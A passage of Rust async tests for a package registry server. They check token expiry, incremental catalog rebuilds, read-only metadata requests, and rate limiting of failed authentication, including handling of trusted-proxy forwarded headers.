            created_at: Timestamp(TOKENS_AT),
            last_used: None,
            expires_at: Some(Timestamp(now.0 + 2)),
        })
        .unwrap();
    let router = f.router().await;
    let auth = basic("soon-expiring-token-0123");
    assert_eq!(
        send(&router, get("/packages.json", Some(&auth)))
            .await
            .status(),
        StatusCode::OK
    );
    // Expiry is checked against the clock on each request.
    while Timestamp::now().0 < now.0 + 2 {
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let expired = send(&router, get("/packages.json", Some(&auth))).await;
    assert_eq!(expired.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn one_package_change_serializes_only_that_package() {
    let f = Fixture::new();
    let catalog = Catalog::open(f.store.clone(), PUBLIC_URL.into())
        .await
        .unwrap();
    let first = catalog.reports();
    assert_eq!(first.packages_serialized, 2, "both packages at the start");
    assert!(first.last.as_ref().unwrap().full);

    let newer = version(
        "acme/widget",
        "v1.3.0",
        "1.3.0.0",
        VersionKind::Tag,
        "d000000000000000000000000000000000000000",
        json!({}),
    );
    f.apply(vec![Change::PutVersion(newer)], SYNCED_AT + 60);
    let snapshot = catalog.fresh().await.unwrap();
    let after = catalog.reports();
    assert_eq!(after.builds, first.builds + 1);
    assert_eq!(after.packages_serialized, first.packages_serialized + 1);
    let report = after.last.unwrap();
    assert!(!report.full);
    assert_eq!((report.packages_serialized, report.scopes_computed), (1, 0));
    assert_eq!(report.seq, snapshot.seq());
    let names: Vec<&str> = snapshot.package_names().map(PackageName::as_str).collect();
    assert_eq!(names, ["acme/secret", "acme/widget"]);
}

#[tokio::test]
async fn metadata_requests_neither_rebuild_nor_write_to_the_store() {
    let f = Fixture::new();
    let state = f.state().await;
    let router = router(state.clone());
    let reports = state.catalog.reports();
    let tokens = f.store.load_tokens().unwrap();
    // The router's state holds the catalog and the dist cache, no store:
    // metadata can only come from the published snapshot.
    for _ in 0..50 {
        for auth in [
            basic(ORG_TOKEN),
            basic(TEAM_TOKEN),
            format!("Bearer {ORG_TOKEN}"),
        ] {
            for path in [
                "/packages.json",
                "/p2/acme/widget.json",
                "/p2/acme/widget~dev.json",
                "/p2/acme/secret.json",
            ] {
                send(&router, get(path, Some(&auth))).await;
            }
        }
    }
    assert_eq!(
        state.catalog.reports(),
        reports,
        "a request rebuilt the catalog"
    );
    assert_eq!(
        f.store.load_tokens().unwrap(),
        tokens,
        "a request wrote a token"
    );
}

#[tokio::test]
async fn failed_authentications_past_the_limit_get_429_while_valid_tokens_pass() {
    use axum::extract::ConnectInfo;
    use std::net::SocketAddr;
    let f = Fixture::new();
    let mut state = f.state().await;
    let proxy: SocketAddr = "10.0.0.9:4000".parse().unwrap();
    state.auth_failures = Arc::new(AuthFailures::with_limit(
        3,
        std::time::Duration::from_secs(3600),
        vec![proxy.ip()],
    ));
    let router = router(state);
    let from = |peer: &str, forwarded: Option<&str>, auth: &str| {
        let mut request = get("/packages.json", Some(auth));
        request
            .extensions_mut()
            .insert(ConnectInfo(peer.parse::<SocketAddr>().unwrap()));
        if let Some(client) = forwarded {
            request
                .headers_mut()
                .insert("x-forwarded-for", client.parse().unwrap());
        }
        request
    };
    let bad = basic("guess-0000000000");
    for _ in 0..3 {
        let r = send(&router, from("192.0.2.1:5000", None, &bad)).await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    }
    let limited = send(&router, from("192.0.2.1:5000", None, &bad)).await;
    assert_eq!(limited.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(limited.headers().contains_key(header::RETRY_AFTER));
    let message = json_body(limited).await["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(message.contains("auth.json"), "{message}");
    // The same address with a valid token is served as ever.
    let valid = send(&router, from("192.0.2.1:5000", None, &basic(ORG_TOKEN))).await;
    assert_eq!(valid.status(), StatusCode::OK);
    // Behind the trusted proxy each forwarded client has its own count;
    // elsewhere the header is not believed.
    for _ in 0..3 {
        let r = send(&router, from("10.0.0.9:4000", Some("198.51.100.7"), &bad)).await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    }
    let other = send(&router, from("10.0.0.9:4000", Some("198.51.100.8"), &bad)).await;
    assert_eq!(other.status(), StatusCode::UNAUTHORIZED);
    let spoofed = send(&router, from("192.0.2.1:5000", Some("198.51.100.9"), &bad)).await;
    assert_eq!(spoofed.status(), StatusCode::TOO_MANY_REQUESTS);
}
